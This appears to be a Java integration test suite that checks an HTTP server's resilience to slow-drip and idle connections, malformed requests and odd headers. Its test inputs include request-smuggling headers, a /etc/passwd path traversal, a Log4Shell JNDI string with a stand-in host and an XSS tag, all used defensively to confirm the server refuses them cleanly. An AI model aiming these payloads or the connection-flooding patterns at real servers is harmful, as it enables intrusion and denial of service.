package cuttings.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import cuttings.json.Json;
import java.io.IOException;
import java.net.http.HttpResponse;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Slow, idle and hostile clients of the real server, and those who ask beside them. */
@Timeout(120)
class ConnectionsIT {
  private static final Times SHORT =
      new Times(Duration.ofSeconds(3), Duration.ofSeconds(3), Duration.ofSeconds(5));
  private static final int IDLE = 2_000;

  private static SampleServer server;

  @BeforeAll
  static void start(@TempDir Path folder) throws IOException {
    server = SampleServer.in(folder, each -> each.with(SHORT));
  }

  @AfterAll
  static void stop() throws IOException {
    server.close();
  }

  private static RawClient client() throws IOException {
    return new RawClient(server.port());
  }

  private static void searchesAreAnswered(int number) throws Exception {
    for (int i = 0; i < number; i++)
      assertThat(server.get("/api/v1/search?q=rachel+mason").statusCode()).isEqualTo(200);
  }

  @Test
  void whoSendsAByteNowAndThenIsCutOffAndDelaysNobody() throws Exception {
    List<String> slow =
        List.of(
            "GET /api/v1/search?q=" + "a".repeat(10_000),
            "GET / HTTP/1.1\r\nHost: a.example\r\nX-Padding: " + "x".repeat(10_000));
    try (var threads = Executors.newVirtualThreadPerTaskExecutor()) {
      var ends = new ArrayList<Future<?>>();
      for (String text : slow)
        for (int i = 0; i < 3; i++)
          ends.add(
              threads.submit(() -> {
                try (var client = client()) {
                  client.drip(text, 100);
                }
                return true;
              }));
      for (int i = 0; i < 3; i++)
        ends.add(
            threads.submit(() -> {
              try (var client = client()) {
                client
                    .send("POST /api/v1/draft-check HTTP/1.1\r\nHost: a.example\r\n")
                    .send("Content-Type: text/plain\r\nContent-Length: 1000000\r\n\r\n")
                    .drip("slow ", 100);
              }
              return true;
            }));
      searchesAreAnswered(100);
      for (Future<?> end : ends) end.get();
    }
    searchesAreAnswered(1);
  }

  @Test
  void thousandsWhoSendNothingDelayNobodyAndAreClosed() throws Exception {
    var idle = new ArrayList<RawClient>();
    try {
      for (int i = 0; i < IDLE; i++) idle.add(client());
      searchesAreAnswered(50);
      // the other side has ended them all, or read() would wait
      for (RawClient client : idle) assertThat(client.rest()).isEmpty();
    } finally {
      for (RawClient client : idle) client.close();
    }
    searchesAreAnswered(1);
  }

  @Test
  void aConnectionThatIsUsedStaysOpen() throws Exception {
    try (var client = client()) {
      for (int i = 0; i < 8; i++) {
        client.send("GET /healthz HTTP/1.1\r\nHost: a.example\r\n\r\n");
        Thread.sleep(500);
      }
      client.send("GET /healthz HTTP/1.1\r\nHost: a.example\r\nConnection: close\r\n\r\n");
      assertThat(client.rest().split("alive")).hasSize(10);
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "GET / HTTP/1.1\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
        "POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\nX-Null: a\0b\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: a\r\n folded: header\r\n\r\n",
        "GET / HTTP/9.9\r\nHost: a\r\n\r\n",
        "\u0016\u0003\u0001\u0002\0\u0001\0\u0001\r\n\r\n",
        "GET /%zz HTTP/1.1\r\nHost: a\r\n\r\n",
        "GET /../../etc/passwd HTTP/1.1\r\nHost: a\r\n\r\n",
        "POST /api/v1/draft-check HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\nhello",
        "BREW / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
      })
  void whatIsNoProperRequestIsRefusedWithoutAFault(String request) throws Exception {
    try (var client = client()) {
      String answer = client.send(request).rest();
      assertThat(answer)
          .matches("(?s)HTTP/1.1 (4|505).*")
          .doesNotContain("Exception", "jetty", "\tat ");
    }
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "X-Forwarded-For: ${jndi:ldap://a.example/x}",
        "User-Agent: <script>alert(1)</script>",
        "Accept-Encoding: gzip;q=9999999999999999999",
        "Accept: */*;q=NaN, ;;;,,,",
        "Range: bytes=0-,0-,0-,0-",
        "Cookie: =;=;\"",
        "If-None-Match: \"",
        "Authorization: Bearer \u00ff",
        "Expect: 100-continue",
        "Accept-Language: " + "de;q=0.1,",
        "Origin: null",
      })
  void oddHeadersDoNoHarm(String header) throws Exception {
    try (var client = client()) {
      String answer =
          client
              .send("GET /api/v1/search?q=rust HTTP/1.1\r\nHost: a.example\r\n" + header)
              .send("\r\nConnection: close\r\n\r\n")
              .rest();
      assertThat(answer).matches("(?s)HTTP/1.1 (100|200|400).*").doesNotContain("Exception");
    }
  }

  @Test
  void aHeaderThatIsTooLongIsAProblem() throws Exception {
    HttpResponse<String> refused = server.get("/api/v1/search?q=" + "a".repeat(70_000));
    assertThat(refused.statusCode()).isIn(414, 431);
    JsonNode problem = Json.readTree(refused.body());
    assertThat(problem.at("/status").asInt()).isEqualTo(refused.statusCode());
  }
}
